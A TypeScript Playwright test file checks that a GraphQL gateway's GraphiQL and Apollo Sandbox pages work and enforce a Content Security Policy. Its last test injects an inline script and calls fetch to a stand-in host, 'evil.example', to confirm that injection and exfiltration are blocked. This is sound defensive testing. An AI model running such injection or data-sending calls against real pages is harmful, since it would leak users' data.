import type { Page } from 'playwright-core';
import type * as rest from '../../src/contract/demand-api.js';
import { demo } from '../../src/emulator/index.js';
import type { FirstQuery } from '../../src/operations/apollo/first-query.js';
import { callApi, demoPaths, readApi, startTestEmulator, type TestEmulator } from '../helpers/emulator.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { BROWSER_TIMEOUT_MS, hasBrowser, startBrowser, type TestBrowser } from './chromium.js';

const project = `${demo.accountId}/${demo.projectId}`;
const targetGroup = `${project}/${demo.live.targetGroupId}`;
const firstQuery: FirstQuery = {
  document: `query Name($id: ID!) {
  targetGroup(id: $id) { name customerReferenceNumber }
}

mutation Pause($input: PauseTargetGroupsInput!) {
  pauseTargetGroups(input: $input) { batchJob { id } userErrors { code } }
}

subscription Follow($run: ID!) {
  fieldingRunUpdated(id: $run) { status version }
}
`,
  variables: {
    id: targetGroup,
    run: `${targetGroup}/${demo.live.fieldingRunId}`,
    input: { targetGroupIds: [targetGroup] },
  },
  headers: { Authorization: `Bearer ${demo.token}` },
};

(hasBrowser ? describe : describe.skip)('GraphiQL in a browser', () => {
  let emulator: TestEmulator;
  let browser: TestBrowser;

  beforeAll(async () => {
    emulator = await startTestEmulator();
    browser = await startBrowser();
  }, BROWSER_TIMEOUT_MS);
  afterAll(async () => {
    await browser.close();
    await emulator.close();
  }, BROWSER_TIMEOUT_MS);

  test(
    'runs the query that it shows at first, and the mutation beside it',
    async () => {
      const overview = await readApi<rest.TargetGroupOverview>(
        emulator,
        `${demoPaths.targetGroup(demo.live)}/overview`,
      );
      await explore('/graphiql', async (page) => {
        await run(page, 'Name');
        await shows(page, `"name": "${overview.target_group_name}"`);
        const number = overview.target_group_customer_reference_number ?? null;
        await shows(page, `"customerReferenceNumber": ${JSON.stringify(number)}`);
        await run(page, 'Pause');
        await shows(page, '"userErrors": []');
      });
      const effects = await emulator.control.effects();
      expect(effects.filter(({ operation }) => operation === 'create_batch_job')).toHaveLength(1);
    },
    BROWSER_TIMEOUT_MS,
  );

  test(
    'shows each state of a subscription',
    async () => {
      await emulator.control.reset();
      await explore('/graphiql', async (page) => {
        await run(page, 'Follow');
        await shows(page, '"status": "LIVE"');
        await callApi(emulator, 'POST', `${demoPaths.run(demo.live)}/pause`, {
          headers: { 'if-match': 'W/"5"' },
        });
        await shows(page, '"status": "PAUSED"');
        await shows(page, '"version": "6"');
      });
    },
    BROWSER_TIMEOUT_MS,
  );

  test(
    'shows again what was edited: the address holds it',
    async () => {
      const edited = 'query Edited { accounts { name } }';
      await explore(`/graphiql?query=${encodeURIComponent(edited)}`, async (page) => {
        await run(page);
        await shows(page, 'Northwind Insights');
      });
    },
    BROWSER_TIMEOUT_MS,
  );

  /** Opens the explorer; nothing may go wrong on the page, and nothing come from elsewhere. */
  async function explore(path: string, use: (page: Page) => Promise<void>): Promise<void> {
    const gateway = await startTestGateway({ demandApiUrl: emulator.url, firstQuery });
    const page = await browser.context.newPage();
    const troubles: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error') troubles.push(`console: ${message.text()} ${message.location().url}`);
    });
    page.on('pageerror', (error) => troubles.push(`page: ${error.message}`));
    page.on('requestfailed', (request) => troubles.push(`failed: ${request.url()}`));
    page.on('request', (request) => {
      const { origin, protocol } = new URL(request.url());
      if (origin !== gateway.url && !['data:', 'blob:'].includes(protocol)) {
        troubles.push(`elsewhere: ${request.url()}`);
      }
    });
    try {
      await page.goto(gateway.url + path);
      await use(page);
      expect(troubles).toEqual([]);
    } finally {
      await page.close();
      await gateway.close();
    }
  }
});

/** Runs what is in the editor, or one of its operations, which the button then offers. */
async function run(page: Page, operation?: string): Promise<void> {
  await page.locator('.graphiql-execute-button').click();
  if (operation !== undefined) await page.getByRole('menuitem', { name: operation }).click();
}

/** Waits until the result holds `text`. Its spaces are non-breaking ones there. */
async function shows(page: Page, text: string): Promise<void> {
  const words = text.split(' ').map((word) => word.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'));
  const result = page.locator('.result-window').filter({ hasText: new RegExp(words.join('\\s')) });
  await result.waitFor();
}

/**
 * Apollo Sandbox under the policy of its page. Its script and its frame come from Apollo; here they are replaced by some that do
 * what the real ones do to the page.
 */

const sandboxQuery = {
  document: 'query First { accounts { name } }',
  variables: {},
  headers: { Authorization: 'Bearer demo' },
};

const SCRIPT = 'https://embeddable-sandbox.cdn.apollographql.com/**';
const FRAME = 'https://sandbox.embed.apollographql.com/';

/** Puts a frame into the page, and sends the first query as the frame asks it to. */
const SANDBOX = `window.EmbeddedSandbox = class {
  constructor({ target, initialState, initialEndpoint }) {
    const frame = document.createElement('iframe');
    frame.src = '${FRAME}';
    document.querySelector(target).append(frame);
    fetch(initialEndpoint, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...initialState.headers },
      body: JSON.stringify({ query: initialState.document }),
    })
      .then((response) => response.text())
      .then((text) => (document.title = text));
  }
};`;

(hasBrowser ? describe : describe.skip)('Apollo Sandbox in a browser', () => {
  let emulator: TestEmulator;
  let gateway: TestGateway;
  let browser: TestBrowser;
  let page: Page;
  let blocked: string[];

  beforeAll(async () => {
    emulator = await startTestEmulator();
    gateway = await startTestGateway({ demandApiUrl: emulator.url, firstQuery: sandboxQuery });
    browser = await startBrowser();
  }, BROWSER_TIMEOUT_MS);
  afterAll(async () => {
    await browser.close();
    await gateway.close();
    await emulator.close();
  }, BROWSER_TIMEOUT_MS);

  beforeEach(async () => {
    page = await browser.context.newPage();
    blocked = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) blocked.push(message.text());
    });
    await page.route(/^https:/, (route) => route.fulfill({ status: 200, body: '' }));
    await page.route(SCRIPT, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: SANDBOX,
        headers: { 'access-control-allow-origin': '*' },
      }),
    );
    await page.route(FRAME, (route) => route.fulfill({ contentType: 'text/html', body: '<p>Sandbox</p>' }));
    await page.goto(`${gateway.url}/graphql`);
  }, BROWSER_TIMEOUT_MS);
  afterEach(() => page.close());

  test(
    'is loaded, shows its frame, and sends the first query',
    async () => {
      await page.waitForFunction('document.title.includes("Northwind Insights")');
      await page.frameLocator('iframe').getByText('Sandbox').waitFor();
      expect(blocked).toEqual([]);
    },
    BROWSER_TIMEOUT_MS,
  );

  test(
    'does not run scripts that others put into the page, and sends nothing elsewhere',
    async () => {
      await page.evaluate(`{
        const script = document.createElement('script');
        script.textContent = 'window.injected = true';
        document.body.append(script);
      }`);
      expect(await page.evaluate('window.injected')).toBeUndefined();
      const sent = await page.evaluate(
        `fetch('https://evil.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'blocked')`,
      );
      expect(sent).toBe('blocked');
      expect(blocked).not.toEqual([]);
    },
    BROWSER_TIMEOUT_MS,
  );
});
